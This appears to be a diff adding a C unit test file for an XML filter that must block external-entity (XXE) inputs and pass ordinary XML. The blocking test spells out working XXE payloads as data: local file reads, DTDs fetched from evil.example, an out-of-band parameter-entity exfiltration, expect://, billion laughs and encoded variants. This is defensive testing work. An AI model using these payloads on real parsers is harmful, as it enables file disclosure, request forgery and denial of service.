@@ -1,0 +1,105 @@
+/** XML that fetches, includes or multiplies, and XML that does not. */
+#include "tests/unit/filter_case.h"
+
+static struct filter_case it;
+
+static int set_up(void **state)
+{
+    (void)state;
+    filter_case_open(&it, NULL);
+    return 0;
+}
+
+static int tear_down(void **state)
+{
+    (void)state;
+    filter_case_close(&it);
+    return 0;
+}
+
+static void blocks_what_makes_a_reader_fetch_or_multiply(void **state)
+{
+    (void)state;
+    static const struct filter_row rows[] = {
+        {"file", PEN_STR("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM "
+                         "\"file:///etc/hostname\">]><a>&x;</a>")},
+        {"public identifier",
+         PEN_STR(
+             "<!DOCTYPE a [<!ENTITY x PUBLIC \"-//A//B\" \"http://evil.example/x\">]><a>&x;</a>")},
+        {"parameter entity",
+         PEN_STR("<!DOCTYPE a [ <!ENTITY % p SYSTEM \"http://evil.example/a.dtd\"> %p; ]><a/>")},
+        {"single quotes and line breaks",
+         PEN_STR("<!DOCTYPE a\n[\n<!ENTITY\nx\nSYSTEM\n'expect://id'>\n]>")},
+        {"billion laughs",
+         PEN_STR("<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>")},
+        {"an entity in an entity",
+         PEN_STR("<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'http://evil.example/?%c;'>\">")},
+        {"a DTD of one's own", PEN_STR("<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>")},
+        {"in a SOAP body", PEN_STR("<soap:Body><x><![CDATA[<!DOCTYPE d [<!ENTITY % e SYSTEM "
+                                   "\"http://evil.example/\"> %e;]><d/>]]></x></soap:Body>")},
+        {"XInclude", PEN_STR("<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include "
+                             "parse=\"text\" href=\"file:///etc/hostname\"/></a>")},
+        {"script in a stylesheet",
+         PEN_STR(
+             "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" "
+             "xmlns:php=\"http://php.net/xsl\"/>")},
+        {"markup in pieces", PEN_STR("<![CDATA[<]]>script<![CDATA[>]]>")},
+        {"UTF-7", PEN_STR("<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE")},
+        {"lower case", PEN_STR("<!doctype a [<!entity x system \"file:///etc/hostname\">]>")},
+        {"percent-encoded",
+         PEN_STR("%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file:///x%22%3E%5D%3E")},
+    };
+    filter_case_blocks(&it, "xxe", rows, PEN_COUNT_OF(rows));
+}
+
+static void stays_silent_on_ordinary_documents(void **state)
+{
+    (void)state;
+    static const struct filter_row rows[] = {
+        {"HTML", PEN_STR("<!DOCTYPE html><html><body>hello</body></html>")},
+        {"HTML of old", PEN_STR("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
+                                "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>")},
+        {"SVG", PEN_STR("<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
+                        "\"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>")},
+        {"property list", PEN_STR("<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
+                                  "\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>")},
+        {"WSDL", PEN_STR("<definitions xmlns=\"http://schemas.xmlsoap.org/wsdl/\" "
+                         "xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\"/>")},
+        {"a comment", PEN_STR("<!-- nothing to see --><a/>")},
+        {"CDATA with text", PEN_STR("<a><![CDATA[if (a < b && c > d) return;]]></a>")},
+        {"a declaration", PEN_STR("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a/>")},
+        {"a plain stylesheet", PEN_STR("<xsl:stylesheet version=\"1.0\" "
+                                       "xmlns:xsl=\"http://www.w3.org/1999/XSL/"
+                                       "Transform\"><xsl:template match=\"/\"/></xsl:stylesheet>")},
+        {"talk about entities",
+         PEN_STR("The <!ENTITY declaration and <!DOCTYPE are refused by the reader.")},
+        {"an exclamation", PEN_STR("Wow <! that was close")},
+    };
+    filter_case_passes(&it, "xxe", rows, PEN_COUNT_OF(rows));
+}
+
+static void is_linear_where_it_could_be_quadratic(void **state)
+{
+    (void)state;
+    static const struct pen_str pieces[] = {PEN_STR("<!DOCTYPE a"), PEN_STR("<!ENTITY a \"x"),
+                                            PEN_STR("<?xml encoding="), PEN_STR("<![CDATA[<")};
+    static char text[1 << 19];
+    for (size_t p = 0; p < PEN_COUNT_OF(pieces); p++) {
+        struct pen_buf buf = pen_buf_over(text, sizeof(text));
+        while (!buf.full) {
+            pen_buf_put(&buf, pieces[p]);
+        }
+        /* The step budget that an event of this size gets is enough: pen_inspect's factor. */
+        (void)filter_case_text(&it, (struct pen_str){text, sizeof(text)});
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(blocks_what_makes_a_reader_fetch_or_multiply),
+        cmocka_unit_test(stays_silent_on_ordinary_documents),
+        cmocka_unit_test(is_linear_where_it_could_be_quadratic),
+    };
+    return cmocka_run_group_tests(tests, set_up, tear_down);
+}
